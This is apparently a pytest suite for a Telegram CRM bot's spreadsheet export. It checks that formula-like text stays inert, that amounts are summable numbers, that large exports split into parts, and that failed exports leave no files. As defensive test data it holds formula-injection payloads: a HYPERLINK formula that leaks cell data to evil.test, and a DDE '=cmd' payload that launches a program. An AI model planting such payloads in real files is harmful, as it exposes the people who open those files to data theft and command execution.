"""The export on both databases: text that a spreadsheet would run is written as text (XLSX string
cells, a `'` in the CSV), amounts as numbers a Polish Excel sums, big teams in several parts and
sheets (each part a complete workbook, every row exactly once), the work off the event loop, and
nothing left behind when it fails."""

from __future__ import annotations

import asyncio
import csv
import io
import random
import time
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet._writer import ALL_TEMP_FILES
from sqlalchemy import insert

from bot.i18n import I18n, Translator
from bot.services import deals, export, teams
from bot.services.export import (
    ExportFiles,
    PartedWorkbook,
    PartTooLarge,
    amount,
    csv_cell,
    workbook,
    write_export,
)
from bot.storage.db import Database
from bot.storage.models import Client, Deal, DealEvent, Member, Stage, User
from bot.storage.unit_of_work import UnitOfWork
from tests.conftest import FakeClock
from tests.fakes.telegram_server import FakeTelegram
from tests.harness import BotRunner, seed_deal, seed_team

TODAY = date(2026, 11, 23)
EVIL = [
    '=HYPERLINK("https://evil.test/?d="&C3,"Open")',
    "+48 600 100 200",
    "-5",
    "@SUM(A1)",
    "\tJan Tab",
    "=1+1",
]


class Team_:
    """A team (Polish, Warsaw) with a manager and a salesperson, filled by direct inserts so that
    names reach the database exactly as written here."""

    def __init__(self, database: Database, clock: FakeClock) -> None:
        self.database, self.clock = database, clock

    def reader(self) -> UnitOfWork:
        return UnitOfWork(self.database.read_sessions, self.clock)

    async def build(self, seller_name: str = "Anna", language: str = "pl") -> Team_:
        now = self.clock.now()
        async with UnitOfWork(self.database.sessions, self.clock) as uow:
            boss = await uow.users.add(
                User(id=1, first_name="Marek", language=language, created_at=now, last_seen_at=now)
            )
            self.team, self.boss = await teams.create_team(uow, boss, "Salon", now, allowed=True)
            assert self.team.id is not None
            seller = await uow.users.add(
                User(
                    id=2,
                    first_name=seller_name,
                    language=language,
                    team_id=self.team.id,
                    created_at=now,
                    last_seen_at=now,
                )
            )
            self.seller = await uow.teams.add_member(
                Member(team_id=self.team.id, user_id=seller.id, joined_at=now)
            )
            self.stages = await uow.teams.stages(self.team.id)
            self.reasons = await uow.teams.loss_reasons(self.team.id)
            await uow.commit()
        return self

    async def fill(
        self,
        clients: list[dict[str, Any]],
        events_per_deal: int = 2,
        text: Any = None,
    ) -> None:
        """One deal per client (`value_minor`, `status`, `comment` taken from the dict), each
        with `events_per_deal` events (a note with `text(i)` when given)."""
        assert self.team.id is not None and self.seller.id is not None
        now = self.clock.now()
        team_id = self.team.id
        stage = self.stages[1].id
        async with self.database.engine.begin() as connection:
            for start in range(0, len(clients), 2000):
                batch = clients[start : start + 2000]
                first = start + 1
                await connection.execute(
                    insert(Client),
                    [
                        {
                            "id": first + i,
                            "team_id": team_id,
                            "name": c["name"],
                            "phone": c.get("phone"),
                            "company": c.get("company"),
                            "created_at": now,
                        }
                        for i, c in enumerate(batch)
                    ],
                )
                await connection.execute(
                    insert(Deal),
                    [
                        {
                            "id": first + i,
                            "team_id": team_id,
                            "number": first + i,
                            "client_id": first + i,
                            "owner_member_id": self.seller.id,
                            "stage_id": stage,
                            "status": c.get("status", "open"),
                            "value_minor": c.get("value_minor"),
                            "currency": "PLN",
                            "loss_reason_id": self.reasons[0].id if c.get("comment") else None,
                            "loss_comment": c.get("comment"),
                            "next_contact_at": now + timedelta(days=1),
                            "stage_entered_at": now,
                            "created_at": now,
                            "updated_at": now,
                        }
                        for i, c in enumerate(batch)
                    ],
                )
                rows = []
                for i, _ in enumerate(batch):
                    for k in range(events_per_deal):
                        number = first + i
                        note = text(number * events_per_deal + k) if text else None
                        rows.append(
                            {
                                "team_id": team_id,
                                "deal_id": number,
                                "kind": "note" if note else "created",
                                "at": now + timedelta(minutes=k),
                                "actor_member_id": self.seller.id,
                                "owner_member_id": self.seller.id,
                                "to_stage_id": None if note else stage,
                                "text": note,
                            }
                        )
                if rows:
                    await connection.execute(insert(DealEvent), rows)

    async def rename_stage(self, name: str) -> None:
        async with UnitOfWork(self.database.sessions, self.clock) as uow:
            stage = await uow.session.get(Stage, self.stages[1].id)
            assert stage is not None
            stage.name = name
            await uow.teams.save(stage)
            await uow.commit()

    async def export(self, t: Translator, directory: Path, **limits: Any) -> ExportFiles:
        limits.setdefault("part_bytes", 45 * 1024 * 1024)
        limits.setdefault("sheet_rows", 1_000_000)
        return await write_export(self.reader, self.team, t, directory, today=TODAY, **limits)


def _cells(path: Path) -> list[tuple[str, list[list[Any]]]]:
    """Every sheet of a workbook as (title, rows of cells)."""
    book = load_workbook(path)
    return [(sheet.title, [list(row) for row in sheet.iter_rows()]) for sheet in book.worksheets]


def _names(*paths: Path) -> list[str]:
    """The files in a directory (or which of these files exist), by name."""
    if len(paths) == 1 and paths[0].is_dir():
        return sorted(path.name for path in paths[0].iterdir())
    return sorted(path.name for path in paths if path.exists())


def _csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """Where the files go (the SQLite database lives in `tmp_path`)."""
    directory = tmp_path / "out"
    directory.mkdir()
    return directory


@pytest.fixture
async def world(database: Database, clock: FakeClock) -> Team_:
    return await Team_(database, clock).build(seller_name="=cmd|' /C calc'!A0")


# --- formula injection -----------------------------------------------------------------------


async def test_text_that_looks_like_a_formula_stays_text(
    world: Team_, i18n: I18n, out: Path
) -> None:
    await world.rename_stage("=Oferta")
    await world.fill(
        [{"name": name, "company": "@firma", "comment": "-za drogo"} for name in EVIL]
        + [{"name": "Zwykły Klient", "phone": "+48600100200", "value_minor": 6_800_000}],
        text=lambda i: f"=notatka {i}",
    )
    t = i18n.translator("pl", world.team.timezone)

    files = await world.export(t, out)

    assert files.workbooks == [out / "crm-2026-11-23.xlsx"]
    assert (files.deals, files.events) == (7, 14)
    sheets = _cells(files.workbooks[0])
    assert [title for title, _ in sheets] == [t._("Deals"), t._("History")]
    for _, rows in sheets:
        for row in rows:
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
    deals = sheets[0][1]
    assert [c.value for c in deals[0]] == export.deal_headers(t)
    for row, name in zip(deals[1:], EVIL, strict=False):
        client, company, stage, owner, comment = row[1], row[3], row[6], row[10], row[13]
        for cell, text in (
            (client, name),
            (company, "@firma"),
            (stage, "=Oferta"),
            (owner, "=cmd|' /C calc'!A0"),
            (comment, "-za drogo"),
        ):
            assert (cell.data_type, cell.value) == ("s", text)
    plain = deals[7]
    assert (plain[2].data_type, plain[2].value) == ("s", "+48600100200")  # a phone, as text
    assert (plain[8].data_type, plain[8].value) == ("n", 68_000)  # an amount, a number
    assert plain[11].data_type == "d" and plain[11].value == datetime(2026, 11, 24, 10, 0)
    history = sheets[1][1]
    assert [c.value for c in history[0]] == export.event_headers(t)
    texts = [(row[3].value, row[6].value, row[6].data_type) for row in history[1:]]
    assert texts[0] == ("=cmd|' /C calc'!A0", "=notatka 2", "s")

    table = _csv(files.csv)
    assert files.csv.name == "crm-deals-2026-11-23.csv"
    assert table[0] == export.deal_headers(t)
    for row, name in zip(table[1:], EVIL, strict=False):
        assert row[1] == "'" + name
        assert (row[3], row[6], row[10], row[13]) == (
            "'@firma",
            "'=Oferta",
            "'=cmd|' /C calc'!A0",
            "'-za drogo",
        )
    assert table[7][1:3] == ["Zwykły Klient", "'+48600100200"]
    assert table[7][8] == "68000" and table[7][11] == "2026-11-24 10:00"


def test_the_resignations_workbook_writes_text_as_text() -> None:
    moment = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
    data = workbook(
        [
            (
                "Rezygnacje",
                ["Nr", "Klient", "Opiekun", "Kiedy", "Wartość"],
                [
                    [1, EVIL[0], "=Ania", moment, 680.5],
                    [2, "\tTab", "@Piotr", None, 68_000],
                ],
            )
        ],
        datetime(2026, 1, 1).astimezone().tzinfo,
    )
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None and sheet.title == "Rezygnacje"
    rows = [list(row) for row in sheet.iter_rows(min_row=2)]
    assert [(c.data_type, c.value) for c in rows[0][1:3]] == [("s", EVIL[0]), ("s", "=Ania")]
    assert [(c.data_type, c.value) for c in rows[1][1:3]] == [("s", "\tTab"), ("s", "@Piotr")]
    assert rows[0][3].data_type == "d" and (rows[0][4].data_type, rows[0][4].value) == ("n", 680.5)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_control_characters_xml_cannot_hold_are_dropped() -> None:
    data = workbook([("S", ["a"], [["\x01=Jan\x0bNowak"]])], UTC)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cell = sheet["A2"]
    assert (cell.data_type, cell.value) == ("s", "=JanNowak")


# --- amounts ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("language", "point"), [("pl", ","), ("ru", ","), ("ro", ","), ("en", ".")]
)
async def test_csv_amounts_are_numbers_excel_sums(
    database: Database, clock: FakeClock, i18n: I18n, out: Path, language: str, point: str
) -> None:
    world = await Team_(database, clock).build(language=language)
    await world.fill(
        [
            {"name": "A", "value_minor": 6_800_000},
            {"name": "B", "value_minor": 6_800_050},
            {"name": "C", "value_minor": 5},
            {"name": "D"},
        ],
        events_per_deal=0,
    )
    t = i18n.translator(language, world.team.timezone)

    files = await world.export(t, out)

    table = _csv(files.csv)
    assert [row[8] for row in table[1:]] == ["68000", f"68000{point}50", f"0{point}05", ""]
    deals = _cells(files.workbooks[0])[0][1]
    assert [(row[8].data_type, row[8].value) for row in deals[1:4]] == [
        ("n", 68_000),
        ("n", 68_000.5),
        ("n", 0.05),
    ]
    assert isinstance(deals[1][8].value, int)
    history = _cells(files.workbooks[0])[1][1]
    assert len(history) == 1  # the header only: no events


def test_amount_and_csv_cell() -> None:
    assert amount(None) is None and amount(0) is None
    assert amount(6_800_000) == 68_000 and isinstance(amount(6_800_000), int)
    assert amount(6_800_050) == 68_000.5
    assert csv_cell(68_000.5, ",") == "68000,50" and csv_cell(68_000.5, ".") == "68000.50"
    assert csv_cell(68_000) == 68_000 and csv_cell(None) == ""
    assert csv_cell(datetime(2026, 1, 2, 3, 4)) == "2026-01-02 03:04"
    assert [csv_cell(v) for v in ("=a", "+a", "-a", "@a", "\ta", "\ra", "a=")] == [
        "'=a",
        "'+a",
        "'-a",
        "'@a",
        "'\ta",
        "'\ra",
        "a=",
    ]


# --- parts and sheets ------------------------------------------------------------------------


def _words(seed: int) -> str:
    rng = random.Random(seed)
    letters = "abcdefghijklmnopqrstuvwxyząęółśżźćń"
    return " ".join(
        "".join(rng.choice(letters) for _ in range(rng.randint(3, 9)))
        for _ in range(rng.randint(4, 12))
    )


async def test_a_big_team_comes_in_parts_and_sheets(world: Team_, i18n: I18n, out: Path) -> None:
    clients, per_deal = 1_500, 6
    await world.fill(
        [{"name": f"Klient {i} {_words(i)[:20]}", "comment": _words(-i)} for i in range(clients)],
        events_per_deal=per_deal,
        text=_words,
    )
    t = i18n.translator("pl", world.team.timezone)
    part_bytes = 300 * 1024

    files = await world.export(t, out, part_bytes=part_bytes, sheet_rows=2_000)

    total = len(files.workbooks)
    assert total >= 3
    assert [path.name for path in files.workbooks] == [
        f"crm-2026-11-23-{k}-of-{total}.xlsx" for k in range(1, total + 1)
    ]
    assert _names(out) == sorted([*(path.name for path in files.workbooks), files.csv.name])
    numbers: list[int] = []
    notes: list[str] = []
    titles: list[str] = []
    deals_title, history_title = t._("Deals"), t._("History")
    for path in files.workbooks:
        size = path.stat().st_size
        assert size <= part_bytes * 1.05, (path.name, size)
        for title, rows in _cells(path):
            titles.append(title)
            assert 2 <= len(rows) <= 2_000
            if title.startswith(deals_title):
                assert [c.value for c in rows[0]] == export.deal_headers(t)
                numbers += [row[0].value for row in rows[1:]]
            else:
                assert title.startswith(history_title)
                assert [c.value for c in rows[0]] == export.event_headers(t)
                notes += [row[6].value for row in rows[1:]]
    assert numbers == list(range(1, clients + 1))
    assert notes == [
        _words(n * per_deal + k) for n in range(1, clients + 1) for k in range(per_deal)
    ]
    assert (files.deals, files.events) == (clients, clients * per_deal)
    # Sheets are numbered on across the parts: "Historia (2)", "Historia (3)", …
    history = [title for title in titles if title.startswith(history_title)]
    assert history[0] == history_title
    assert history[1:] == [f"{history_title} ({n})" for n in range(2, len(history) + 1)]
    assert len(history) >= (clients * per_deal) // 1_999
    assert len(_csv(files.csv)) == clients + 1


async def test_one_sheet_never_holds_more_than_the_limit(
    world: Team_, i18n: I18n, out: Path
) -> None:
    await world.fill([{"name": f"K{i}"} for i in range(25)], events_per_deal=4)
    t = i18n.translator("pl", world.team.timezone)

    files = await world.export(t, out, sheet_rows=10)

    sheets = _cells(files.workbooks[0])
    assert [title for title, _ in sheets] == [
        t._("Deals"),
        f"{t._('Deals')} (2)",
        f"{t._('Deals')} (3)",
        t._("History"),
        *(f"{t._('History')} ({n})" for n in range(2, 13)),
    ]
    assert [len(rows) for _, rows in sheets] == [10, 10, 8, *([10] * 11), 2]
    assert [row[0].value for _, rows in sheets[:3] for row in rows[1:]] == list(range(1, 26))


async def test_a_part_above_the_hard_limit_makes_smaller_parts(
    world: Team_, i18n: I18n, out: Path
) -> None:
    await world.fill([{"name": f"K{i}"} for i in range(1_200)], events_per_deal=6, text=_words)
    t = i18n.translator("pl", world.team.timezone)

    # The parts are planned at 300 KB, but a document may have 200 KB at most.
    files = await world.export(
        t, out, part_bytes=300 * 1024, sheet_rows=1_000_000, max_part_bytes=200 * 1024
    )

    assert len(files.workbooks) >= 2
    assert all(path.stat().st_size <= 200 * 1024 for path in files.workbooks)
    assert sum(len(rows) - 1 for p in files.workbooks for _, rows in _cells(p)) == 1_200 * 7


def test_a_saved_part_is_checked_against_the_hard_limit(out: Path) -> None:
    book = PartedWorkbook(out, "crm", part_bytes=10**9, sheet_rows=100, max_part_bytes=100)
    book.begin("S", ["a"])
    book.write([["x" * 50] for _ in range(50)])
    with pytest.raises(PartTooLarge):
        book.finish()


async def test_an_empty_team_gets_headers(world: Team_, i18n: I18n, out: Path) -> None:
    t = i18n.translator("ru", world.team.timezone)

    files = await world.export(t, out)

    assert (files.deals, files.events) == (0, 0)
    sheets = _cells(files.workbooks[0])
    assert [(title, len(rows)) for title, rows in sheets] == [
        (t._("Deals"), 1),
        (t._("History"), 1),
    ]
    assert _csv(files.csv) == [export.deal_headers(t)]


# --- off the event loop, and nothing left behind ------------------------------------------------


async def test_the_loop_goes_on_while_the_workbook_is_written(
    world: Team_, i18n: I18n, out: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    await world.fill([{"name": f"K{i}"} for i in range(30)], events_per_deal=1)
    t = i18n.translator("pl", world.team.timezone)
    original = PartedWorkbook.write

    def slow_write(self: PartedWorkbook, rows: Any) -> None:
        time.sleep(0.3)  # blocks whoever runs it: it must be the worker thread
        original(self, rows)

    monkeypatch.setattr(PartedWorkbook, "write", slow_write)
    ticks = 0
    done = asyncio.Event()

    async def ticker() -> None:
        nonlocal ticks
        while not done.is_set():
            await asyncio.sleep(0.01)
            ticks += 1

    task = asyncio.create_task(ticker())
    started = time.perf_counter()
    files = await world.export(t, out)
    elapsed = time.perf_counter() - started
    done.set()
    await task
    assert files.deals == 30 and elapsed >= 0.6
    assert ticks >= 20  # ~60 while the worker slept, at 10 ms


async def test_a_failure_leaves_no_files(
    world: Team_, i18n: I18n, out: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    await world.fill([{"name": f"K{i}"} for i in range(1_200)], events_per_deal=3, text=_words)
    t = i18n.translator("pl", world.team.timezone)
    calls = 0
    original = export.event_values

    def failing(row: Any, names: Any) -> list[Any]:
        nonlocal calls
        calls += 1
        if calls > 2_500:
            raise RuntimeError("disk full")
        return original(row, names)

    monkeypatch.setattr(export, "event_values", failing)
    temporary = len(ALL_TEMP_FILES)
    with pytest.raises(RuntimeError, match="disk full"):
        await world.export(t, out, part_bytes=100 * 1024)
    assert _names(out) == []
    # openpyxl's own files of the sheets that were being written are gone too.
    assert len(ALL_TEMP_FILES) > temporary
    assert _names(*map(Path, ALL_TEMP_FILES[temporary:])) == []


# --- through the bot -------------------------------------------------------------------------


async def test_the_files_the_bot_sends_hold_no_formula(
    bot: BotRunner, fake_telegram: FakeTelegram, clock: FakeClock
) -> None:
    people = await seed_team(
        bot,
        fake_telegram,
        "Salon",
        [(1, "=Marek", "pl", "manager"), (2, "@Ania", "pl", "salesperson")],
        morning_agenda=False,
    )
    marek = people["=Marek"]
    t = bot.runtime.i18n.translator("pl", "Europe/Warsaw")
    evil = await seed_deal(bot, 2, EVIL[0], phone="+48600100200")
    await seed_deal(bot, 1, "-5")
    async with bot.runtime.uow() as uow:
        user = await uow.users.get(2)
        assert user is not None and user.team_id is not None
        ania = await uow.teams.member(user.team_id, 2)
        assert ania is not None
        reasons = await uow.teams.loss_reasons(user.team_id)
        await deals.edit(uow, ania, evil, "value", 6_800_050, clock.now())
        await deals.resign(uow, ania, evil, reasons[0].id or 0, "=1+1 za drogo", None, clock.now())
        await uow.commit()

    await marek.send("/export")
    book_message = await marek.expect(
        predicate=lambda m: m.document is not None and m.document.filename.endswith(".xlsx")
    )
    csv_message = await marek.expect(
        predicate=lambda m: m.document is not None and m.document.filename.endswith(".csv")
    )
    assert book_message.document is not None and csv_message.document is not None
    assert book_message.document.filename == "crm-2026-11-23.xlsx"
    book = load_workbook(io.BytesIO(book_message.document.data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    deals_sheet = book[t._("Deals")]
    first = list(next(deals_sheet.iter_rows(min_row=2)))
    assert [(c.data_type, c.value) for c in (first[1], first[2], first[10], first[13])] == [
        ("s", EVIL[0]),
        ("s", "+48600100200"),
        ("s", "@Ania"),
        ("s", "=1+1 za drogo"),
    ]
    assert (first[8].data_type, first[8].value) == ("n", 68_000.5)
    history = list(book[t._("History")].iter_rows(min_row=2, values_only=True))
    assert {row[3] for row in history} == {"@Ania", "=Marek"}
    table = list(
        csv.reader(io.StringIO(csv_message.document.data.decode("utf-8-sig")), delimiter=";")
    )
    assert table[1][1:3] == ["'" + EVIL[0], "'+48600100200"]
    assert table[1][8] == "68000,50" and table[1][10] == "'@Ania"
    assert table[2][1] == "'-5" and table[2][10] == "'=Marek"

    # The resignations of the week, from the report.
    await marek.send("/report")
    await marek.expect("📈")
    await marek.tap(t.pgettext("button", "This week"))
    await marek.expect(predicate=lambda m: m.event == "edit")
    await marek.tap(t.pgettext("button", "💸 Losses"))
    await marek.expect(predicate=lambda m: m.event == "edit" and "💸" in m.text)
    await marek.tap(t.pgettext("button", "📎 All comments (XLSX)"))
    sheet_message = await marek.expect(predicate=lambda m: m.document is not None)
    assert sheet_message.document is not None
    sheet = load_workbook(io.BytesIO(sheet_message.document.data)).active
    assert sheet is not None
    rows = [list(row) for row in sheet.iter_rows()]
    assert not [cell.coordinate for row in rows for cell in row if cell.data_type == "f"]
    resigned = rows[1]
    assert [(c.data_type, c.value) for c in (resigned[1], resigned[4], resigned[5])] == [
        ("s", EVIL[0]),
        ("s", "@Ania"),
        ("s", "=1+1 za drogo"),
    ]
    assert (resigned[7].data_type, resigned[7].value) == ("n", 68_000.5)
